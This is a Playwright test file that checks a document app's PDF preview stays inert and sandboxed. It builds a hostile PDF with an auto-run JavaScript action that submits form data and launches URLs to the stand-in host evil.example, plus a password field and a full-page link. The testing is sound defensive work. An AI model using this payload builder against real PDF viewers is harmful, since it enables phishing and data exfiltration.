import { expect, type Page, test } from '@playwright/test'

import { createOrganization } from './support/organization.ts'
import { baseUrl } from './support/server.ts'
import { openPage } from './support/sign-in.ts'

/** A page with a link, a form field and a script that runs on opening, wherever the viewer supports them. */
const hostilePdf = (): Buffer => {
  const script =
    "app.alert('run'); this.submitForm('https://evil.example/form'); app.launchURL('https://evil.example/js')"
  const text = 'BT /F1 24 Tf 72 700 Td (Confidential notice) Tj ET'
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AcroForm << /Fields [8 0 R] >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ' +
      '/Annots [7 0 R 8 0 R] /AA << /O 6 0 R >> >>',
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Action /S /JavaScript /JS (${script.replaceAll(/[()\\]/g, '\\$&')}) >>`,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (https://evil.example/link) >> >>',
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (password) /Rect [72 500 300 530] /P 3 0 R /AA << /F 6 0 R >> >>',
  ]
  let body = '%PDF-1.7\n'
  const offsets = objects.map((object, index) => {
    const offset = body.length
    body += `${index + 1} 0 obj\n${object}\nendobj\n`
    return String(offset).padStart(10, '0')
  })
  const entries = offsets.map((offset) => `${offset} 00000 n \n`).join('')
  const trailer = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`
  return Buffer.from(`${body}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}${trailer}`)
}

test.describe.configure({ mode: 'serial' })

const attempts: string[] = []
const violations: string[] = []
let page: Page
let documentId: string
let scriptPolicy: string | undefined
let reachedByWorker: unknown

test.beforeAll(async ({ browser }) => {
  page = await openPage(browser, (await createOrganization()).owner)
  page.on('dialog', (dialog) => {
    attempts.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('console', (message) => {
    if (/Content Security Policy/.test(message.text())) violations.push(message.text())
  })
  page.context().on('request', (request) => {
    if (request.url().includes('evil.example')) attempts.push(request.url())
  })
  const uploaded = await page.request.post('/api/v1/documents/upload', {
    multipart: { file: { name: 'hostile.pdf', mimeType: 'application/pdf', buffer: hostilePdf() } },
    headers: { origin: baseUrl },
  })
  expect(uploaded.status()).toBe(201)
  const { data } = (await uploaded.json()) as { data: { document_key: string } }
  documentId = /([0-9a-f-]{36})\.pdf$/.exec(data.document_key)?.[1] ?? ''
})
test.afterAll(() => page.context().close())

test('a PDF with scripts, links and form fields is shown as a picture', async () => {
  const worker = page.waitForEvent('worker')
  const served = page.waitForResponse((response) => response.url().includes('pdf.worker'))
  await page.goto(`/send/options?document=${documentId}`)
  const thumbnail = page.getByRole('button', { name: 'Page 1 of 1, enlarge' })
  await expect(thumbnail.locator('canvas')).toBeVisible()
  await thumbnail.click()
  const dialog = page.getByRole('dialog')
  await expect(dialog.locator('canvas')).toBeVisible()
  const live = 'a[href*="evil"], input, textarea, iframe, object, embed, script'
  for (const part of [thumbnail, dialog]) await expect(part.locator(live)).toHaveCount(0)
  await dialog.locator('canvas').click({ position: { x: 40, y: 40 }, force: true })
  expect(attempts).toEqual([])
  expect(page.context().pages()).toHaveLength(1)

  scriptPolicy = (await served).headers()['content-security-policy']
  reachedByWorker = await (
    await worker
  ).evaluate(() =>
    Promise.all(
      ['/api/v1/account', 'https://evil.example/'].map((path) =>
        fetch(new URL(path, self.location.origin)).then(
          (response) => response.status,
          () => 'refused',
        ),
      ),
    ),
  )
})

test('the worker that reads a PDF can reach neither the API nor another site', () => {
  expect(scriptPolicy).toContain("default-src 'none'")
  expect(reachedByWorker).toEqual(['refused', 'refused'])
})

test('a page with a PDF does not execute its text as code', async () => {
  const evaluated = await page.evaluate(async () => {
    // Chromium's tools may evaluate anything during their own call; later turns are under the page's policy.
    const { promise, resolve } = Promise.withResolvers<string>()
    setTimeout(() => {
      try {
        resolve(String(Reflect.construct(Function, ['return 1'])()))
      } catch {
        resolve('refused')
      }
    })
    return promise
  })
  expect(evaluated).toBe('refused')
  // Only what these tests tried violated the policy.
  expect(violations.filter((text) => !/account|evil\.example|eval/.test(text))).toEqual([])
})

test('a PDF opened by its own URL is sandboxed by its response headers', async () => {
  const detail = await page.request.get(`/api/v1/documents/${documentId}`)
  const { data } = (await detail.json()) as { data: { preview_url: string } }
  const file = await page.request.get(data.preview_url)
  expect(file.headers()['content-security-policy']).toMatch(/^sandbox;/)
  expect(file.headers()['x-content-type-options']).toBe('nosniff')
})
